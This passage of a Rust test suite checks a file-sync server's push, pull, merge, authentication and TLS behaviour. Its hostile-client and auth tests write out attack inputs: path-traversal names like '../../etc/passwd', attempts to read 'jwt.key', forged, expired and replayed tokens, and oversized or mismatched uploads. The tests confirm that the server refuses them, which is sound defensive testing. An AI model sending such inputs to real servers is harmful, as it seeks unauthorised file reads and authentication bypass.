    sg(&b, kb, &["pull", "-r", addr])
        .ok()
        .stdout_has("Initialized sgard repository");
    assert_eq!(b.read(".bashrc"), b"export A=1\n");
    assert_eq!(b.read(".config/app/conf"), conf);
    assert_eq!(mode_of(&b.path(".config/app/conf")), 0o600);
    assert_eq!(entries(&a, &[]), entries(&b, &[]));
    local(&b, &["verify"]).ok();

    // B edits and pushes; A pulls.
    change(&mut b, ".bashrc", "export A=1\nexport B=2\n", 5);
    let r = sg(&b, kb, &["push", "-r", addr]);
    r.ok();
    assert!(pushed_count(&r) >= 1);
    // A trusts only its own key: B's head is refused until A trusts B's.
    let before = a.read(".bashrc");
    sg(&a, ka, &["pull", "-r", addr])
        .code(3)
        .stderr_has("a key this machine does not trust");
    assert_eq!(a.read(".bashrc"), before);
    trust(&a, kb);
    sg(&a, ka, &["pull", "-r", addr]).ok();
    assert_eq!(a.read(".bashrc"), b"export A=1\nexport B=2\n");
    assert_eq!(a.read(".config/app/conf"), conf);
    assert_eq!(entries(&a, &[]), entries(&b, &[]));
    sg(&a, ka, &["pull", "-r", addr])
        .ok()
        .stdout_has("Already up to date.");

    // One cached token per HOME, private.
    for t in [&a, &b] {
        let f = token_file(t);
        assert_eq!(mode_of(&f), 0o600, "{}", f.display());
        assert_eq!(mode_of(f.parent().unwrap()), 0o700);
        let tok = fs::read_to_string(&f).unwrap();
        assert_eq!(tok.trim().split('.').count(), 3, "not a JWT: {tok:?}");
    }
    drop(srv);
}

/// Concurrent edits: a stale push is refused (exit 4); pull merges changes
/// to different files; the same file changed on both sides is left a
/// conflict that overwrites nothing (exit 4), or settled by `--theirs` or
/// `--ours`.
#[test]
fn concurrent_edits_merge_conflict_theirs_ours() {
    two_machines_one_server!(w, srv, addr, ka, kb);
    let mut a = TestEnv::init();
    let mut b = TestEnv::new();
    a.write("f1", "one\n");
    a.write("f2", "two\n");
    track(&a, &["f1", "f2"]);
    sg(&a, ka, &["push", "-r", addr]).ok();
    sg(&b, kb, &["pull", "-r", addr]).ok();
    assert_eq!(b.read("f1"), b"one\n");

    // A changes f1 and pushes; B changed f2: its push is refused.
    change(&mut a, "f1", "one-A\n", 1);
    sg(&a, ka, &["push", "-r", addr]).ok();
    change(&mut b, "f2", "two-B\n", 2);
    let server_manifest = fs::read(srv.repo.join("manifest.yaml")).unwrap();
    sg(&b, kb, &["push", "-r", addr])
        .code(4)
        .stderr_has("sgard pull");
    assert_eq!(
        fs::read(srv.repo.join("manifest.yaml")).unwrap(),
        server_manifest,
        "a refused push changed the server"
    );

    // B pulls: gets f1, keeps f2; then its push goes through.
    sg(&b, kb, &["pull", "-r", addr]).ok();
    assert_eq!(b.read("f1"), b"one-A\n");
    assert_eq!(b.read("f2"), b"two-B\n");
    sg(&b, kb, &["push", "-r", addr]).ok();
    trust(&a, kb);
    sg(&a, ka, &["pull", "-r", addr]).ok();
    assert_eq!(a.read("f1"), b"one-A\n");
    assert_eq!(a.read("f2"), b"two-B\n");
    let want = vec![
        ("~/f1".to_owned(), sha("one-A\n")),
        ("~/f2".to_owned(), sha("two-B\n")),
    ];
    assert_eq!(entries(&a, &[]), want);
    assert_eq!(entries(&b, &[]), want);

    // Both change f1: pull takes the rest and leaves f1 a conflict, as on a
    // shared folder: B's file as it is, the server's version in the
    // repository (see stories::remote for merge).
    change(&mut a, "f1", "one-A2\n", 3);
    sg(&a, ka, &["push", "-r", addr]).ok();
    change(&mut b, "f1", "one-B2\n", 4);
    let r = sg(&b, kb, &["pull", "-r", addr]);
    r.code(4).stderr_has("~/f1").stderr_has("sgard merge");
    assert!(!r.stderr.contains("~/f2"), "f2 is no conflict; {r:#?}");
    assert_eq!(b.read("f1"), b"one-B2\n", "the pull overwrote a conflict");
    assert!(b.manifest().contains(&sha("one-A2\n")));
    local(&b, &["status", "~/f1"]).stdout_has("conflict   ~/f1");
    // `restore -f` settles it on the server's version.
    local(&b, &["restore", "-f", "~/f1"]).ok();
    assert_eq!(b.read("f1"), b"one-A2\n");
    assert!(!b.manifest().contains(&sha("one-B2\n")));

    // Both change f1 again: --theirs takes the server's version outright.
    change(&mut a, "f1", "one-A3\n", 5);
    sg(&a, ka, &["push", "-r", addr]).ok();
    change(&mut b, "f1", "one-B3\n", 6);
    sg(&b, kb, &["pull", "-r", addr, "--theirs"]).ok();
    assert_eq!(b.read("f1"), b"one-A3\n");
    assert!(b.manifest().contains(&sha("one-A3\n")));
    assert!(!b.manifest().contains(&sha("one-B3\n")));

    // Both change f2: --ours keeps the local one, and it can be pushed.
    change(&mut a, "f2", "two-A3\n", 7);
    sg(&a, ka, &["push", "-r", addr]).ok();
    change(&mut b, "f2", "two-B3\n", 8);
    sg(&b, kb, &["pull", "-r", addr, "--ours"]).ok();
    assert_eq!(b.read("f2"), b"two-B3\n");
    assert!(b.manifest().contains(&sha("two-B3\n")));
    assert!(!b.manifest().contains(&sha("two-A3\n")));
    sg(&b, kb, &["push", "-r", addr]).ok();
    sg(&a, ka, &["pull", "-r", addr]).ok();
    assert_eq!(a.read("f1"), b"one-A3\n");
    assert_eq!(a.read("f2"), b"two-B3\n");
    drop(srv);
}

/// `undo` after a pull puts back the bytes the pull overwrote: a file still
/// at its checkpointed version, and (with `pull --force`) unsaved edits.
#[test]
fn undo_reverts_a_pull() {
    two_machines_one_server!(w, srv, addr, ka, kb);
    let mut a = TestEnv::init();
    let b = TestEnv::new();
    let c = TestEnv::new();
    a.write("f", "v1\n");
    track(&a, &["f"]);
    sg(&a, ka, &["push", "-r", addr]).ok();
    sg(&b, kb, &["pull", "-r", addr]).ok();
    sg(&c, kb, &["pull", "-r", addr]).ok();
    assert_eq!(b.read("f"), b"v1\n");

    change(&mut a, "f", "v2\n", 1);
    sg(&a, ka, &["push", "-r", addr]).ok();
    sg(&b, kb, &["pull", "-r", addr]).ok();
    assert_eq!(b.read("f"), b"v2\n");
    local(&b, &["undo"]).ok();
    assert_eq!(b.read("f"), b"v1\n", "undo did not revert the pull");

    // Unsaved edits overwritten by `pull --force` come back with undo.
    c.write("f", "c's unsaved edit\n");
    sg(&c, kb, &["pull", "-r", addr, "--force"]).ok();
    assert_eq!(c.read("f"), b"v2\n");
    local(&c, &["undo"]).ok();
    assert_eq!(c.read("f"), b"c's unsaved edit\n");
    drop(srv);
}

/// Pulling from a fresh, empty server changes nothing locally.
#[test]
fn pull_from_empty_server_changes_nothing() {
    let w = world_or_skip!(1);
    let k = w.key(0);
    let srv = w.serve(&[]);
    let b = TestEnv::init();
    b.write("f", "mine\n");
    b.write("g", "also mine\n");
    track(&b, &["f", "g"]);
    let before = (
        b.manifest(),
        fs::read(b.repo().join("history.yaml")).unwrap(),
        b.read("f"),
    );
    sg(&b, k, &["pull", "-r", &srv.addr]).ok();
    let after = (
        b.manifest(),
        fs::read(b.repo().join("history.yaml")).unwrap(),
        b.read("f"),
    );
    assert!(
        before == after,
        "pulling an empty server changed the repository"
    );
    assert_eq!(entries(&b, &[]).len(), 2);
    drop(srv);
}

/// Authentication: unknown keys are refused; an expired token is renewed
/// transparently; a signature cannot be replayed; removing a key from
/// `authorized_keys` revokes its token without a restart.
#[test]
fn auth_unknown_key_expired_token_replay_and_revocation() {
    let w = world_or_skip!(2);
    let (ka, kb) = (w.key(0), w.key(1));
    let stranger = w.stranger();
    let srv = w.serve(&[]);
    let addr = srv.addr.clone();
    let mut a = TestEnv::init();
    a.write("f", "hello\n");
    track(&a, &["f"]);

    // A key not in authorized_keys.
    let r = sg(&a, &stranger, &["push", "-r", &addr]);
    assert_ne!(r.code, 0, "{r:#?}");
    r.stderr_has("not authorized")
        .stderr_has(&fingerprint(&stranger));
    assert!(token_files(&a).is_empty(), "a refused login cached a token");

    sg(&a, ka, &["push", "-r", &addr]).ok();
    let cache = token_file(&a);
    let secret = server_secret(&srv.repo);
    let fp = fingerprint(ka);
    let now = unix_now();
    let good = jwt(&secret, &fp, now, now + 3600);
    let expired = jwt(&secret, &fp, now - 7200, now - 3600);

    let rt = runtime();
    rt.block_on(async {
        let mut c = connect(&addr).await;
        // The forged tokens are well made: a live one is accepted...
        pull_manifest(&mut c, &good).await.unwrap();
        // ...an expired one is refused with a challenge to sign.
        let s = expect_code(
            pull_manifest(&mut c, &expired).await,
            &[Code::Unauthenticated],
            "expired token",
        );
        let ch = reauth_challenge(&s).expect("no ReauthChallenge with the expired token");
        assert!(ch.nonce.len() >= 16);
        assert!((ch.timestamp - unix_now()).abs() < 60);
        // Signing it logs in.
        let t = raw_auth(&mut c, auth_request(ka, &ch.nonce, ch.timestamp))
            .await
            .unwrap();
        pull_manifest(&mut c, &t).await.unwrap();
        // Garbage, a wrong signature or no token at all: refused.
        let forged = jwt(&[7u8; 32], &fp, now, now + 3600);
        for (what, tok) in [("garbage", "a.b.c"), ("wrong key", &forged), ("none", "")] {
            expect_code(
                pull_manifest(&mut c, tok).await,
                &[Code::Unauthenticated],
                what,
            );
        }
    });

    // The CLI renews an expired cached token by itself.
    fs::write(&cache, format!("{expired}\n")).unwrap();
    sg(&a, ka, &["list", "-r", &addr]).ok().stdout_has("~/f");
    let renewed = fs::read_to_string(&cache).unwrap();
    assert_ne!(renewed.trim(), expired, "the expired token is still cached");
    let cl = claims(renewed.trim());
    assert_eq!(cl["sub"], fp);
    assert!(cl["exp"].as_i64().unwrap() > unix_now());
    assert_eq!(mode_of(&cache), 0o600);
    fs::write(&cache, format!("{expired}\n")).unwrap();
    a.now = now_plus(1);
    a.write("f", "hello again\n");
    local(&a, &["checkpoint"]).ok();
    sg(&a, ka, &["push", "-r", &addr])
        .ok()
        .stdout_has("Pushed ");
    assert_ne!(fs::read_to_string(&cache).unwrap().trim(), expired);

    rt.block_on(async {
        let mut c = connect(&addr).await;
        // A replayed signature is refused.
        let n = nonce("replay");
        let ts = unix_now();
        let t1 = raw_auth(&mut c, auth_request(ka, &n, ts)).await.unwrap();
        let s = expect_code(
            raw_auth(&mut c, auth_request(ka, &n, ts)).await,
            &[Code::Unauthenticated],
            "replayed signature",
        );
        assert!(s.message().contains("replay"), "{}", s.message());
        // A stale timestamp, a signature by another key, a stranger.
        expect_code(
            raw_auth(&mut c, auth_request(ka, &nonce("old"), ts - 1000)).await,
            &[Code::Unauthenticated],
            "stale timestamp",
        );
        let mut mixed = auth_request(ka, &nonce("mixed"), ts);
        mixed.public_key = pubkey(kb);
        expect_code(
            raw_auth(&mut c, mixed).await,
            &[Code::Unauthenticated],
            "signature by another key",
        );
        expect_code(
            raw_auth(&mut c, auth_request(&stranger, &nonce("s"), ts)).await,
            &[Code::PermissionDenied],
            "stranger",
        );
        pull_manifest(&mut c, &t1).await.unwrap();

        // Remove A's key: its token is refused at once, B's still works.
        let tb = login(&mut c, kb).await;
        fs::write(w.auth_keys(), pubkey(kb)).unwrap();
        set_mtime(&w.auth_keys(), 1_000_000_000);
        expect_code(
            pull_manifest(&mut c, &t1).await,
            &[Code::PermissionDenied],
            "token of a removed key",
        );
        pull_manifest(&mut c, &tb).await.unwrap();
    });
    let r = sg(&a, ka, &["list", "-r", &addr]);
    assert_ne!(r.code, 0, "a removed key still reads the server; {r:#?}");
    r.stderr_has("authorized");
    let b = TestEnv::init();
    sg(&b, kb, &["list", "-r", &addr]).ok().stdout_has("~/f");
    drop(srv);
}

/// Makes a CA and a server certificate for localhost / 127.0.0.1; `None`
/// without openssl.
pub(crate) fn make_certs(dir: &Path) -> Option<(PathBuf, PathBuf, PathBuf)> {
    let ossl = |args: &[&str]| -> Option<()> {
        match Command::new("openssl")
            .args(args)
            .current_dir(dir)
            .stdin(Stdio::null())
            .output()
        {
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => None,
            Err(e) => panic!("running openssl: {e}"),
            Ok(o) => {
                assert!(
                    o.status.success(),
                    "openssl {args:?} failed: {}",
                    String::from_utf8_lossy(&o.stderr)
                );
                Some(())
            }
        }
    };
    fs::write(
        dir.join("ext.cnf"),
        "subjectAltName=DNS:localhost,IP:127.0.0.1\nbasicConstraints=CA:FALSE\n\
         keyUsage=digitalSignature,keyEncipherment\nextendedKeyUsage=serverAuth\n",
    )
    .unwrap();
    ossl(&[
        "req",
        "-x509",
        "-newkey",
        "rsa:2048",
        "-nodes",
        "-keyout",
        "ca.key",
        "-out",
        "ca.pem",
        "-days",
        "2",
        "-subj",
        "/CN=sgard test CA",
    ])?;
    ossl(&[
        "req",
        "-newkey",
        "rsa:2048",
        "-nodes",
        "-keyout",
        "srv.key",
        "-out",
        "srv.csr",
        "-subj",
        "/CN=localhost",
    ])?;
    ossl(&[
        "x509",
        "-req",
        "-in",
        "srv.csr",
        "-CA",
        "ca.pem",
        "-CAkey",
        "ca.key",
        "-CAcreateserial",
        "-out",
        "srv.pem",
        "-days",
        "2",
        "-extfile",
        "ext.cnf",
    ])?;
    Some((dir.join("ca.pem"), dir.join("srv.pem"), dir.join("srv.key")))
}

/// TLS: a client trusting the CA syncs; plaintext or untrusted clients
/// fail; `--tls-cert` without `--tls-key` is a usage error.
#[test]
fn tls_push_pull_and_refusals() {
    let w = world_or_skip!(1);
    let k = w.key(0);
    let cdir = w.root().join("certs");
    fs::create_dir_all(&cdir).unwrap();
    let Some((ca, cert, key)) = make_certs(&cdir) else {
        eprintln!("skipping: openssl is not installed");
        return;
    };
    let (ca_s, cert_s, key_s) = (
        ca.to_str().unwrap(),
        cert.to_str().unwrap(),
        key.to_str().unwrap(),
    );
    let srv = w.serve(&["--tls-cert", cert_s, "--tls-key", key_s]);
    let addr = srv.addr.as_str();
    let a = TestEnv::init();
    a.write("f", "over tls\n");
    track(&a, &["f"]);

    // Plaintext against TLS, and TLS without trusting the CA: refused, in
    // words that say what to do (never a TLS library's error names).
    let r1 = sg(&a, k, &["push", "-r", addr]);
    assert_eq!(
        r1.code, 1,
        "a plaintext client talked to a TLS server; {r1:#?}"
    );
    r1.stderr_has("did not answer as an sgard server")
        .stderr_has("add --tls");
    let r2 = sg(&a, k, &["push", "-r", addr, "--tls"]);
    assert_eq!(r2.code, 1, "the client trusted an unknown CA; {r2:#?}");
    r2.stderr_has(
        "the server's certificate is not signed by a certificate authority this system trusts",
    )
    .stderr_has("--tls-ca FILE");
    // TLS to a port that speaks plain HTTP/2 (another sgardd).
    let plain = w.serve(&[]);
    let r3 = sg(&a, k, &["push", "-r", &plain.addr, "--tls"]);
    assert_eq!(r3.code, 1, "{r3:#?}");
    r3.stderr_has("the server did not answer in TLS")
        .stderr_has("--no-tls");
    drop(plain);
    for r in [&r1, &r2, &r3] {
        for name in [
            "InvalidContentType",
            "UnknownIssuer",
            "CaUsedAsEndEntity",
            "h2 protocol",
        ] {
            assert!(!r.stderr.contains(name), "{name}: {r:#?}");
        }
    }
    assert!(!a.repo().join("sync-state").exists());

    sg(&a, k, &["push", "-r", addr, "--tls", "--tls-ca", ca_s])
        .ok()
        .stdout_has("Pushed ");
    let localhost = format!("localhost:{}", srv.port);
    let b = TestEnv::new();
    sg(
        &b,
        k,
        &["pull", "-r", &localhost, "--tls", "--tls-ca", ca_s],
    )
    .ok();
    assert_eq!(b.read("f"), b"over tls\n");

    // remote.yaml remembers TLS and the CA; --no-tls overrides it.
    local(&a, &["remote", "set", addr, "--tls", "--tls-ca", ca_s]).ok();
    local(&a, &["remote", "show"])
        .ok()
        .stdout_has("tls:    true")
        .stdout_has("tls-ca: ");
    sg(&a, k, &["list", "--remote"]).ok().stdout_has("~/f");
    let r = sg(&a, k, &["list", "--remote", "--no-tls"]);
    assert_ne!(r.code, 0, "--no-tls still used TLS; {r:#?}");

    // --tls-cert without --tls-key (and the reverse) is a usage error.
    let repo = w.root().join("other");
    let repo_s = repo.to_str().unwrap();
    let base = [
        "--repo",
        repo_s,
        "--init",
        "--insecure-no-auth",
        "--listen",
        "127.0.0.1:0",
    ];
    for extra in [["--tls-cert", cert_s], ["--tls-key", key_s]] {
        let mut args = base.to_vec();
        args.extend_from_slice(&extra);
        let r = sgardd_exits(&w.srv_home(), &args);
        assert_eq!(r.code, 2, "{extra:?}; {r:#?}");
    }
    assert!(!repo.exists());
    drop(srv);
}

/// A self-signed certificate straight from `openssl req -x509` (which marks
/// it `CA:TRUE` and names no host) given with `--tls-ca` is trusted as that
/// exact certificate; `--tls-ca` alone means TLS; another self-signed
/// certificate is refused.
#[test]
fn tls_ca_trusts_a_self_signed_ca_certificate_exactly() {
    let w = world_or_skip!(1);
    let k = w.key(0);
    let cdir = w.root().join("certs");
    fs::create_dir_all(&cdir).unwrap();
    let selfsigned = |name: &str| -> Option<(PathBuf, PathBuf)> {
        let (crt, key) = (
            cdir.join(format!("{name}.pem")),
            cdir.join(format!("{name}.key")),
        );
        let r = Command::new("openssl")
            .args([
                "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2",
            ])
            .args(["-subj", &format!("/CN={name}")])
            .arg("-keyout")
            .arg(&key)
            .arg("-out")
            .arg(&crt)
            .stdin(Stdio::null())
            .output();
        match r {
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => None,
            Err(e) => panic!("running openssl: {e}"),
            Ok(o) => {
                assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
                Some((crt, key))
            }
        }
    };
    let Some((crt, key)) = selfsigned("sgard-server") else {
        eprintln!("skipping: openssl is not installed");
        return;
    };
    let (other, _) = selfsigned("someone-else").unwrap();
    let text = Command::new("openssl")
        .args(["x509", "-noout", "-text", "-in"])
        .arg(&crt)
        .output()
        .unwrap();
    assert!(
        String::from_utf8_lossy(&text.stdout).contains("CA:TRUE"),
        "this openssl does not mark req -x509 certificates CA:TRUE; the test would prove nothing"
    );
    let srv = w.serve(&[
        "--tls-cert",
        crt.to_str().unwrap(),
        "--tls-key",
        key.to_str().unwrap(),
    ]);
    let addr = srv.addr.as_str();
    let a = TestEnv::init();
    a.write("f", "pinned\n");
    track(&a, &["f"]);

    // Another self-signed certificate: refused, nothing recorded.
    let r = sg(
        &a,
        k,
        &["push", "-r", addr, "--tls-ca", other.to_str().unwrap()],
    );
    assert_ne!(r.code, 0, "trusted a certificate nobody gave; {r:#?}");
    assert!(!a.repo().join("sync-state").exists());

    // The server's own certificate, without --tls: TLS, and it works.
    sg(
        &a,
        k,
        &["push", "-r", addr, "--tls-ca", crt.to_str().unwrap()],
    )
    .ok()
    .stdout_has("Pushed ");
    let b = TestEnv::new();
    let by_name = format!("localhost:{}", srv.port);
    sg(
        &b,
        k,
        &["pull", "-r", &by_name, "--tls-ca", crt.to_str().unwrap()],
    )
    .ok();
    assert_eq!(b.read("f"), b"pinned\n");

    // A file that holds no certificate is a clear error naming it.
    let junk = cdir.join("junk.pem");
    fs::write(&junk, "not a certificate\n").unwrap();
    sg(
        &a,
        k,
        &["list", "-r", addr, "--tls-ca", junk.to_str().unwrap()],
    )
    .code(1)
    .stderr_has("junk.pem");

    // A remote.yaml written by hand that names the certificate but says
    // nothing of `tls:` means TLS too, never plaintext.
    fs::write(
        a.repo().join("remote.yaml"),
        format!("addr: {addr}\ntls_ca: {}\n", crt.display()),
    )
    .unwrap();
    a.write("f", "pinned, again\n");
    a.sgard(["checkpoint", "-m", "again"]).ok();
    sg(&a, k, &["push"]).ok().stdout_has("Pushed ");
    drop(srv);
}

/// `--insecure-no-auth`: loopback only, and clients need no SSH key.
#[test]
fn insecure_no_auth_loopback_only_and_keyless_clients() {
    let w = World::bare();
    // Refused on a non-loopback address, before listening.
    let repo2 = w.root().join("srv2");
    let r = sgardd_exits(
        &w.srv_home(),
        &[
            "--repo",
            repo2.to_str().unwrap(),
            "--init",
            "--insecure-no-auth",
            "--listen",
            "0.0.0.0:0",
        ],
    );
    assert_ne!(r.code, 0, "{r:#?}");
    r.stderr_has("loopback");
    assert!(!r.stdout.contains("serving on"), "{r:#?}");
    // Neither --authorized-keys nor --insecure-no-auth, or both: usage errors.
    let keys = w.root().join("authorized_keys");
    fs::write(&keys, "").unwrap();
    for extra in [
        &[][..],
        &[
            "--insecure-no-auth",
            "--authorized-keys",
            keys.to_str().unwrap(),
        ][..],
    ] {
        let mut args = vec![
            "--repo",
            repo2.to_str().unwrap(),
            "--init",
            "--listen",
            "127.0.0.1:0",
        ];
        args.extend_from_slice(extra);
        let r = sgardd_exits(&w.srv_home(), &args);
        assert_eq!(r.code, 2, "{args:?}; {r:#?}");
    }

    let srv = serve(
        &w.srv_home(),
        &w.srv_repo(),
        &[
            "--insecure-no-auth".into(),
            "--listen".into(),
            "127.0.0.1:0".into(),
        ],
    );
    let addr = srv.addr.as_str();
    let a = TestEnv::init();
    assert!(!a.path(".ssh").exists());
    a.write("f", "no auth\n");
    track(&a, &["f"]);
    // A client that has a key goes on without a token.
    if let Some(k) = keygen(w.root(), "somekey") {
        let c = TestEnv::new();
        sg(&c, &k, &["list", "-r", addr]).ok();
        assert!(token_files(&c).is_empty());
    }
    // A client with no SSH key at all.
    sg_env(&a, None, &["push", "-r", addr], &[])
        .ok()
        .stdout_has("Pushed ");
    let b = TestEnv::new();
    sg_env(&b, None, &["pull", "-r", addr], &[]).ok();
    assert_eq!(b.read("f"), b"no auth\n");
    sg_env(&b, None, &["list", "-r", addr], &[])
        .ok()
        .stdout_has("~/f");
    assert!(token_files(&a).is_empty() && token_files(&b).is_empty());
    drop(srv);
}

/// A hostile raw gRPC client (logged in with a real key) cannot store a
/// blob under the wrong name, overflow a message, install a manifest whose
/// blobs are missing or whose paths or hashes escape, or read outside the
/// store; the server stays consistent and keeps serving.
#[test]
fn hostile_client_cannot_corrupt_the_server() {
    let w = world_or_skip!(1);
    let k = w.key(0).to_path_buf();
    let srv = w.serve(&[]);
    let repo = srv.repo.clone();
    let addr = srv.addr.clone();
    let manifest_before = fs::read(repo.join("manifest.yaml")).unwrap();
    let rt = runtime();

    let good = b"a good blob\n".to_vec();
    let good_hash = sha(&good);
    let token = rt.block_on(async {
        let mut c = connect(&addr).await;
        // Without a token nothing is served.
        expect_code(
            pull_manifest(&mut c, "").await,
            &[Code::Unauthenticated],
            "no token",
        );
        expect_code(
            push_blobs(&mut c, "", vec![(good_hash.clone(), good.clone())]).await,
            &[Code::Unauthenticated],
            "push without a token",
        );
        let token = login(&mut c, &k).await;
        // Control: a correct blob is stored.
        assert_eq!(
            push_blobs(&mut c, &token, vec![(good_hash.clone(), good.clone())])
                .await
                .unwrap(),
            1
        );
        token
    });
    assert_eq!(fs::read(blob_file(&repo, &good_hash)).unwrap(), good);
    let blobs_before = blob_names(&repo);
    let mut bad_names: Vec<String> = Vec::new();

    rt.block_on(async {
        let mut c = connect(&addr).await;
        // (a) Bytes that do not match their hash.
        let claimed = b"the bytes the hash names\n".to_vec();
        let sent = b"other bytes entirely\n".to_vec();
        bad_names.extend([sha(&claimed), sha(&sent)]);
        expect_code(
            push_blobs(&mut c, &token, vec![(sha(&claimed), sent.clone())]).await,
            &[Code::DataLoss],
            "mismatched blob",
        );
        // ...also when only a later chunk differs.
        let big = noise(200_000, 9);
        let mut forged = big.clone();
        forged[150_000] ^= 1;
        bad_names.extend([sha(&big), sha(&forged)]);
        expect_code(
            push_blobs(
                &mut c,
                &token,
                vec![
                    (sha(&big), forged[..100_000].to_vec()),
                    (String::new(), forged[100_000..].to_vec()),
                ],
            )
            .await,
            &[Code::DataLoss],
            "mismatched second chunk",
        );
        // (b) One byte too many, in one chunk or as an extra chunk; one too few.
        let body = b"exactly these bytes".to_vec();
        let mut longer = body.clone();
        longer.push(b'!');
        bad_names.extend([sha(&body), sha(&longer), sha(&body[..body.len() - 1])]);
        expect_code(
            push_blobs(&mut c, &token, vec![(sha(&body), longer.clone())]).await,
            &[Code::DataLoss],
            "one byte too many",
        );
        expect_code(
            push_blobs(
                &mut c,
                &token,
                vec![(sha(&body), body.clone()), (String::new(), b"!".to_vec())],
            )
            .await,
            &[Code::DataLoss],
            "one extra byte in its own chunk",
        );
        expect_code(
            push_blobs(
                &mut c,
                &token,
                vec![(sha(&body), body[..body.len() - 1].to_vec())],
            )
            .await,
            &[Code::DataLoss],
            "one byte too few",
        );
        // Malformed names and data without a name.
        for h in ["../../etc/passwd", "ABC", &good_hash.to_uppercase()] {
            expect_code(
                push_blobs(&mut c, &token, vec![(h.to_owned(), b"x".to_vec())]).await,
                &[Code::InvalidArgument],
                &format!("blob named {h:?}"),
            );
        }
        expect_code(
            push_blobs(
                &mut c,
                &token,
                vec![(String::new(), b"orphan data".to_vec())],
            )
            .await,
            &[Code::InvalidArgument],
            "data before any hash",
        );
        // (c) A message over 4 MiB.
        let huge = noise((4 << 20) + 1024, 4);
        bad_names.push(sha(&huge));
        expect_code(
            push_blobs(&mut c, &token, vec![(sha(&huge), huge.clone())]).await,
            &[Code::OutOfRange, Code::ResourceExhausted],
            "message over 4 MiB",
        );
        pull_manifest(&mut c, &token)
            .await
            .expect("the server stopped serving after an oversized message");
        let mut fresh = connect(&addr).await;
        let head = pull_manifest(&mut fresh, &token).await.unwrap().head_id;
        assert_eq!(head.len(), 64);

        // (d) A manifest naming a blob never uploaded.
        let never = sha(b"never uploaded\n");
        bad_names.push(never.clone());
        let neg = push_manifest(
            &mut c,
            &token,
            push_req(vec![file_entry("~/x", &never)], "none", true),
        )
        .await
        .unwrap();
        assert_eq!(neg.decision, Decision::Accepted as i32);
        assert_eq!(neg.missing_blobs, vec![never.clone()]);
        for base in ["none", head.as_str()] {
            expect_code(
                push_manifest(
                    &mut c,
                    &token,
                    push_req(vec![file_entry("~/x", &never)], base, false),
                )
                .await,
                &[Code::FailedPrecondition],
                &format!("missing blob, base {base:?}"),
            );
        }
        // ...or a history record whose snapshot was never uploaded.
        let mut req = push_req(vec![file_entry("~/x", &good_hash)], "none", false);
        let ghost = sha(b"no such snapshot\n");
        bad_names.push(ghost.clone());
        req.history.push(v1::HistoryRecord {
            id: ghost,
            time: pb_time(now_secs()),
            host: "evil".into(),
            reason: "checkpoint".into(),
            entries: 1,
            ..Default::default()
        });
        expect_code(
            push_manifest(&mut c, &token, req).await,
            &[Code::FailedPrecondition],
            "history record without a snapshot",
        );
        // ...or the Go way: no base, manifest now, blobs "later" (never).
        let mut legacy = push_req(vec![file_entry("~/x", &never)], "", false);
        legacy.manifest = Some(manifest_msg(
            vec![file_entry("~/x", &never)],
            now_secs() + 86_400 * 365,
        ));
        let r = push_manifest(&mut c, &token, legacy).await.unwrap();
        assert_eq!(r.decision, Decision::Accepted as i32, "{r:?}");
        expect_code(
            push_blobs(&mut c, &token, Vec::new()).await,
            &[Code::FailedPrecondition],
            "legacy push without its blobs",
        );

        // (e) Paths and hashes that escape.
        let bad_manifests = [
            ("dotdot path", file_entry("~/../../etc/x", &good_hash)),
            ("inner dotdot", file_entry("~/a/../../../etc/x", &good_hash)),
            ("dot path", file_entry("~/./x", &good_hash)),
            ("relative path", file_entry("etc/x", &good_hash)),
            ("traversal hash", file_entry("~/x", "../../etc/passwd")),
            ("short hash", file_entry("~/x", "abc")),
            (
                "unknown type",
                v1::ManifestEntry {
                    r#type: "fifo".into(),
                    ..file_entry("~/x", &good_hash)
                },
            ),
            (
                "bad mode",
                v1::ManifestEntry {
                    mode: "99999".into(),
                    ..file_entry("~/x", &good_hash)
                },
            ),
        ];
        for (what, e) in bad_manifests {
            for negotiate in [true, false] {
                expect_code(
                    push_manifest(&mut c, &token, push_req(vec![e.clone()], "none", negotiate))
                        .await,
                    &[Code::InvalidArgument],
                    &format!("{what} (negotiate {negotiate})"),
                );
            }
        }
        expect_code(
            push_manifest(
                &mut c,
                &token,
                push_req(
                    vec![file_entry("~/x", &good_hash)],
                    "../../etc/passwd",
                    false,
                ),
            )
            .await,
            &[Code::InvalidArgument],
            "traversal base id",
        );
        let mut req = push_req(vec![file_entry("~/x", &good_hash)], "none", false);
        req.history.push(v1::HistoryRecord {
            id: "../../etc/passwd".into(),
            ..Default::default()
        });
        expect_code(
            push_manifest(&mut c, &token, req).await,
            &[Code::InvalidArgument],
            "traversal history id",
        );
        let dup = push_req(
            vec![file_entry("~/x", &good_hash), file_entry("~/x", &good_hash)],
            "none",
            false,
        );
        expect_code(
            push_manifest(&mut c, &token, dup).await,
            &[Code::InvalidArgument],
            "duplicate path",
        );
        expect_code(
            push_manifest(
                &mut c,
                &token,
                v1::PushManifestRequest {
                    manifest: None,
                    base_id: "none".into(),
                    ..Default::default()
                },
            )
            .await,
            &[Code::InvalidArgument],
            "no manifest",
        );

        // (f) Reading outside the store.
        for h in ["../../etc/passwd", "../manifest.yaml", "jwt.key", ""] {
            expect_code(
                pull_blobs(&mut c, &token, &[h]).await,
                &[Code::InvalidArgument],
                &format!("PullBlobs {h:?}"),
            );
        }
        expect_code(
            pull_blobs(&mut c, &token, &[&sha(b"absent\n")]).await,
            &[Code::NotFound],
            "PullBlobs of an absent blob",
        );
        let got = pull_blobs(&mut c, &token, &[&good_hash]).await.unwrap();
        assert_eq!(got, vec![(good_hash.clone(), good.clone())]);
    });

    assert_no_temp_blobs(&repo);
    for h in &bad_names {
        assert!(!any_file_named(&repo, h), "a blob named {h} was stored");
    }
    assert_eq!(blob_names(&repo), blobs_before, "the blob store changed");
    assert_eq!(
        fs::read(repo.join("manifest.yaml")).unwrap(),
        manifest_before,
        "the server manifest changed"
    );
    let any = TestEnv::new();
    local(&any, &["verify", "--repo", repo.to_str().unwrap()]).ok();
    // Still serving a real client.
    let a = TestEnv::init();
    a.write("f", "after the attack\n");
    track(&a, &["f"]);
    sg(&a, &k, &["push", "-r", &addr]).ok();
    let b = TestEnv::new();
    sg(&b, &k, &["pull", "-r", &addr]).ok();
    assert_eq!(b.read("f"), b"after the attack\n");
    drop(srv);
}

/// `kill -9` of the server during pushes of a few MiB leaves its repository
/// consistent, and after a restart the push goes through.
#[test]
fn server_killed_mid_push_stays_consistent() {
    let w = world_or_skip!(1);
    let k = w.key(0);
    let mut srv = w.serve(&[]);
